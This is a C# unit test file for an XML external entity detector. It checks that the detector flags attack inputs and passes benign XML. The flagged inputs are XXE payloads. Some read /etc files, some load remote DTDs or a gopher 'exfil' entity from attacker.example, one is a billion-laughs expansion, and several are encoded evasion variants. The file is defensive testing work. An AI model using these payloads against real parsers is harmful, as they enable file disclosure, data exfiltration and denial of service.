namespace ServerlessShield.Tests.Inspection.Detectors;

public class XmlExternalEntityDetectorTests
{
    private static readonly InjectionScanner Scanner = new([new XmlExternalEntityDetector()]);

    [Theory]
    [InlineData("<?xml version=\"1.0\"?><!DOCTYPE order [<!ENTITY secret SYSTEM \"file:///etc/hostname\">]><order>&secret;</order>")]
    [InlineData("<!DOCTYPE r [\n  <!ENTITY % remote SYSTEM \"https://attacker.example/evil.dtd\">\n  %remote;\n]><r/>")]
    [InlineData("<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>")]
    [InlineData("<!DOCTYPE invoice SYSTEM \"http://10.1.2.3/invoice.dtd\"><invoice/>")]
    [InlineData("<!DOCTYPE invoice PUBLIC \"-//ACME//Invoice\" \"ftp://attacker.example/x.dtd\"><invoice/>")]
    [InlineData("<!ENTITY % payload SYSTEM \"php://filter/convert.base64-encode/resource=/etc/issue\">")]
    [InlineData("<!ENTITY exfil SYSTEM 'gopher://attacker.example/'>")]
    [InlineData("<!DOCTYPE x [ %ext; ]><x/>")]
    [InlineData("<doc xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/group\"/></doc>")]
    [InlineData("<data><inc:include href=\"/etc/group\"/></data>")]
    [InlineData("%3C!DOCTYPE%20a%20%5B%3C!ENTITY%20b%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fgroup%22%3E%5D%3E")]
    [InlineData("<svg><![CDATA[<!DOCTYPE s [<!ENTITY % d SYSTEM \"http://h/\"> %d;]>]]></svg>")]
    [InlineData("<\0!\0D\0O\0C\0T\0Y\0P\0E\0 \0a\0 \0[\0<\0!\0E\0N\0T\0I\0T\0Y\0 \0b\0 \0S\0Y\0S\0T\0E\0M\0 \0\"\0x\0\"\0>\0]\0>\0")]
    [InlineData("<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADwAIQ-DOCTYPE a +AFs-+ADwAIQ-ENTITY b SYSTEM +ACI-file:///etc/group+ACI-+AD4-+AF0-+AD4-")]
    public void IsMatch_EntityDeclarationsAndInclusions_AreDetected(string value) =>
        Assert.NotEmpty(Scanner.Scan(value));

    [Theory]
    [InlineData("<!DOCTYPE html><html><body>Hello</body></html>")]
    [InlineData("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">")]
    [InlineData("<?xml version=\"1.0\"?><order id=\"7\"><item>Widget &amp; bolt</item></order>")]
    [InlineData("<!-- comment --><root/>")]
    [InlineData("The entity system is public knowledge; see <b>docs</b>.")]
    [InlineData("Include the file via <include>notes.txt</include>")]
    [InlineData("<![CDATA[a < b]]>")]
    public void IsMatch_OrdinaryXmlAndText_AreNotDetected(string value) =>
        Assert.Empty(Scanner.Scan(value));

    [Theory]
    [InlineData("<!", 1 << 19)]
    [InlineData("<!DOCTYPE a [", 1 << 16)]
    [InlineData("<!ENTITY ", 1 << 17)]
    [InlineData(":include", 1 << 17)]
    public void IsMatch_PathologicalInput_Completes(string unit, int count) =>
        _ = new XmlExternalEntityDetector().IsMatch(string.Concat(Enumerable.Repeat(unit, count)));
}
